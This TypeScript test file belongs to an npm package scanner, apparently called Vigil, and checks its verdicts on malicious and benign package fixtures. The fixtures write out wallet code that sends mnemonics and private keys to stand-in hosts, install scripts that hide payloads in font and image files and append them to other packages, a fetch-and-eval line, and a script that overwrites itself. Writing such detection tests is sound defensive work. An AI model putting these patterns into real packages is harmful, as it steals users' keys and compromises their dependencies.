// Issue 24, round s27: IN-SAMPLE for held-out set 27 (packages track, written from its class descriptions).
import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { analyzePackage } from './packages/analyze-package.js';

const pkg = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const titles = (r: AgentResult) => r.findings.map((f: AgentFinding) => `${f.severity} ${f.title}`);
const serious = (r: AgentResult) => r.findings.filter((f) => f.severity === 'CRIT' || f.severity === 'HIGH').map((f) => `${f.severity} ${f.title}`);

describe('key material handed to a queue that a later flush sends', () => {
  const EXFIL = 'CRIT Credentials or the environment flow to a network call';
  it('is CRIT when a wallet class queues its mnemonic and an interval flushes the queue in a request header (separate functions)', async () => {
    const lib = [
      "const https = require('https');",
      'const buffer = [];',
      'function record(evt) { buffer.push(evt); }',
      'function flush() {',
      '  if (buffer.length === 0) return;',
      '  const trace = buffer.splice(0, buffer.length).join("|");',
      "  const req = https.request({ hostname: 'metrics.wallet-sync.example', method: 'GET', headers: { 'x-trace-id': trace } });",
      '  req.end();',
      '}',
      'setInterval(flush, 5000).unref();',
      'class HDWallet {',
      '  constructor(mnemonic) { this.mnemonic = mnemonic; record(this.mnemonic); }',
      '  derive(path) { return path; }',
      '}',
      'module.exports = { HDWallet };',
    ].join('\n');
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'hd-wallet-lite', version: '2.1.0', main: 'index.js' }), 'index.js': lib });
    expect(titles(r)).toContain(EXFIL);
    expect(r.verdict).toBe('BLOCK');
  });
  it('is CRIT when an importer reports the private key through a helper whose microtask sends the pending list in a URL (TypeScript)', async () => {
    const lib = [
      'const pending: string[] = [];',
      'const report = (v: string): void => {',
      '  pending.push(v);',
      '  queueMicrotask(() => {',
      "    const q = pending.splice(0).join(',');",
      "    void fetch(`https://rpc-status.example/ping?d=${encodeURIComponent(q)}`).catch(() => undefined);",
      '  });',
      '};',
      'export function importAccount(privateKey: string) {',
      "  report(privateKey);",
      '  return { address: privateKey.slice(-40) };',
      '}',
    ].join('\n');
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'evm-account-tools', version: '0.4.2', main: 'dist/index.js', types: 'src/index.ts' }), 'src/index.ts': lib, 'dist/index.js': 'module.exports = require("../src/index.ts");\n' });
    expect(titles(r)).toContain(EXFIL);
  });
  it('leaves an analytics client that queues event names and public addresses and flushes them to its host alone', async () => {
    const lib = [
      "const https = require('https');",
      'const queue = [];',
      'function track(name, props) { queue.push({ name, props, t: Date.now() }); }',
      'function flush() {',
      '  const body = JSON.stringify(queue.splice(0));',
      "  const req = https.request({ hostname: 'events.walletkit.example', method: 'POST', headers: { 'content-type': 'application/json' } });",
      '  req.end(body);',
      '}',
      'setInterval(flush, 10000).unref();',
      'class Account {',
      '  constructor(publicKey, secretKey) { this.publicKey = publicKey; this._sk = secretKey; track("account_loaded", { address: publicKey }); }',
      '}',
      'module.exports = { Account, track };',
    ].join('\n');
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'walletkit', version: '3.0.0', main: 'index.js', homepage: 'https://walletkit.example' }), 'index.js': lib });
    expect(r.findings.filter((f) => f.title === 'Credentials or the environment flow to a network call')).toEqual([]);
  });
});

describe('an install script that writes a decoded payload into another package it locates', () => {
  const PLANTS = 'CRIT Install-time code plants code in another installed package';
  it('is CRIT when an upward search helper returns node_modules/<dep> and a hex payload read from a font is appended to mapped targets', async () => {
    const script = [
      "import fs from 'node:fs';",
      "import path from 'node:path';",
      "import { fileURLToPath } from 'node:url';",
      'const here = path.dirname(fileURLToPath(import.meta.url));',
      'function locate(name) {',
      '  let d = process.cwd();',
      '  while (true) {',
      "    const p = path.resolve(d, 'node_modules', name);",
      '    if (fs.existsSync(p)) return p;',
      '    const up = path.dirname(d);',
      '    if (up === d) return undefined;',
      '    d = up;',
      '  }',
      '}',
      "const root = locate('viem');",
      'if (root) {',
      "  const files = ['_cjs/index.js', '_esm/index.js'].map((f) => path.join(root, f));",
      "  const glyphs = Buffer.from(fs.readFileSync(path.join(here, 'fonts', 'glyphs.woff'), 'utf8'), 'hex').toString('utf8');",
      '  for (const f of files) if (fs.existsSync(f)) fs.appendFileSync(f, glyphs);',
      '}',
    ].join('\n');
    const manifest = JSON.stringify({ name: 'viem-batch-utils', version: '1.2.0', type: 'module', scripts: { install: 'node build/link.mjs' }, peerDependencies: { viem: '^2.0.0' } });
    const r = await pkg({ 'package.json': manifest, 'build/link.mjs': script, 'build/fonts/glyphs.woff': '7265717569726528276e657427293b' });
    expect(titles(r)).toContain(PLANTS);
    expect(r.verdict).toBe('BLOCK');
  });
  it('is CRIT when a block-bodied callback builds the targets from a helper that returns node_modules/<dep> and atob decodes a shipped .png', async () => {
    const script = [
      "const fs = require('fs'), path = require('path');",
      'function depDir(pkgName) {',
      "  const base = path.join(process.env.INIT_CWD || process.cwd(), 'node_modules', pkgName);",
      '  return base;',
      '}',
      "const dir = depDir('web3-eth-accounts');",
      "const hooks = ['lib/commonjs/account.js'].map((rel) => { const full = path.join(dir, rel); return full; });",
      "const code = atob(fs.readFileSync(path.join(__dirname, 'logo.png'), 'latin1'));",
      'hooks.forEach((h) => { try { fs.writeFileSync(h, fs.readFileSync(h, "utf8") + code); } catch (e) {} });',
      "try { fs.writeFileSync(__filename, '// ok\\n'); } catch (e) {}",
    ].join('\n');
    const manifest = JSON.stringify({ name: 'web3-accounts-helper', version: '0.9.1', scripts: { postinstall: 'node setup.js' } });
    const r = await pkg({ 'package.json': manifest, 'setup.js': script, 'logo.png': 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp' });
    expect(titles(r)).toContain(PLANTS);
    // Writing over its own file erases it as deleting does.
    expect(titles(r)).toContain('MED Install script deletes its own file after running');
  });
  it('leaves a postinstall that finds a peer through an upward search, reads its version and writes a decoded wasm into its own folder alone', async () => {
    const script = [
      "const fs = require('fs'), path = require('path');",
      'function findPeer(start, name) {',
      '  let dir = start;',
      '  for (let i = 0; i < 6; i++) {',
      "    const cand = path.join(dir, 'node_modules', name);",
      "    if (fs.existsSync(path.join(cand, 'package.json'))) return cand;",
      '    dir = path.dirname(dir);',
      '  }',
      '  return null;',
      '}',
      "const peer = findPeer(process.cwd(), 'typescript');",
      "const version = peer ? JSON.parse(fs.readFileSync(path.join(peer, 'package.json'), 'utf8')).version : 'none';",
      "const wasm = Buffer.from(fs.readFileSync(path.join(__dirname, 'parser.wasm.b64'), 'utf8'), 'base64');",
      "fs.mkdirSync(path.join(__dirname, 'dist'), { recursive: true });",
      "fs.writeFileSync(path.join(__dirname, 'dist', 'parser.wasm'), wasm);",
      "fs.writeFileSync(path.join(__dirname, 'dist', 'peer.json'), JSON.stringify({ version }));",
    ].join('\n');
    const manifest = JSON.stringify({ name: 'ts-fast-parser', version: '1.0.0', scripts: { postinstall: 'node install.js' } });
    const r = await pkg({ 'package.json': manifest, 'install.js': script, 'parser.wasm.b64': 'AGFzbQEAAAA=' });
    expect(r.findings.filter((f) => /another installed package/.test(f.title))).toEqual([]);
    expect(serious(r)).toEqual([]);
  });
});

describe('bounds found by the review', () => {
  it('finishes on a file that pushes to one queue 150,000 times (the sender graph keeps one edge per name)', async () => {
    const index = [
      "const https = require('https');",
      'const q = [];',
      'const a = 1;',
      'q.push(a);\n'.repeat(150000),
      "https.get('https://cdn.example.invalid/x', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => eval(d)); });",
      "https.request({ host: 'h.example.invalid', headers: { t: q.join() } }).end();",
    ].join('\n');
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'qpad', version: '1.0.0', main: 'index.js' }), 'index.js': index });
    expect(r.verdict).toBe('BLOCK');
    // About 11 s alone on the 2-core CI machine; a CI run beside other suites took 64 s, past the 60 s default.
    // The bound being tested is that it ends (it did not, before the sender graph kept one edge per name).
  }, 240_000);
});

describe('moving a file out of another package is not writing into it', () => {
  const install = (move: string) =>
    [
      "const fs = require('fs'); const path = require('path'); const child_process = require('child_process');",
      "const pkgJson = require('./package.json');",
      'function installUsingNPM(pkg, subpath, binPath) {',
      "  const installDir = path.join(path.dirname(require.resolve('fastbin')), 'npm-install');",
      '  fs.mkdirSync(installDir);',
      "  fs.writeFileSync(path.join(installDir, 'package.json'), '{}');",
      '  child_process.execSync(`npm install --no-audit ${pkg}@${pkgJson.version}`, { cwd: installDir });',
      "  const installedBinPath = path.join(installDir, 'node_modules', pkg, subpath);",
      `  ${move}`,
      '}',
      "installUsingNPM('@fastbin/linux-x64', 'bin/fastbin', path.join(__dirname, 'bin', 'fastbin'));",
    ].join('\n');
  const manifest = JSON.stringify({ name: 'fastbin', version: '0.28.2', scripts: { postinstall: 'node install.js' } });
  it('leaves an installer that renames its platform binary out of a private npm install alone (esbuild’s install.js)', async () => {
    const r = await pkg({ 'package.json': manifest, 'install.js': install('fs.renameSync(installedBinPath, binPath);') });
    expect(titles(r).filter((t) => t.includes('another installed package'))).toEqual([]);
  });
  it('still reports a copy whose destination is inside that package', async () => {
    // The project's own node_modules (not a private install under the package's resolved folder).
    const text = install("fs.copyFileSync(path.join(__dirname, 'patch.js'), installedBinPath);").replace("path.join(path.dirname(require.resolve('fastbin')), 'npm-install')", 'process.cwd()');
    const r = await pkg({ 'package.json': manifest, 'install.js': text });
    expect(titles(r)).toContain('HIGH Install-time code modifies another installed package');
  });
});

describe('moves, copies and an own-package resolve cannot hide a write into another package (review)', () => {
  const manifest = JSON.stringify({ name: 'evil-pkg', version: '1.0.0', scripts: { postinstall: 'node i.js' } });
  it('reports a copy whose destination climbs into a sibling package', async () => {
    const r = await pkg({ 'package.json': manifest, 'i.js': "const fs = require('fs'); const path = require('path');\nfs.copyFileSync(path.join(__dirname, 'p.dat'), path.join(__dirname, '..', 'react', 'index.js'));\n" });
    expect(titles(r)).toContain('HIGH Install-time code modifies another installed package');
  });
  it('reports an append under node_modules/<name> although the file resolves its own name', async () => {
    const r = await pkg({ 'package.json': manifest, 'i.js': "const fs = require('fs'); const path = require('path');\nconst me = require.resolve('evil-pkg');\nconst root = process.cwd();\nfunction hit(x) { fs.appendFileSync(path.join(root, 'node_modules', x, 'index.js'), ';1'); }\nhit(process.argv[2]);\n" });
    expect(titles(r)).toContain('HIGH Install-time code modifies another installed package');
  });
});
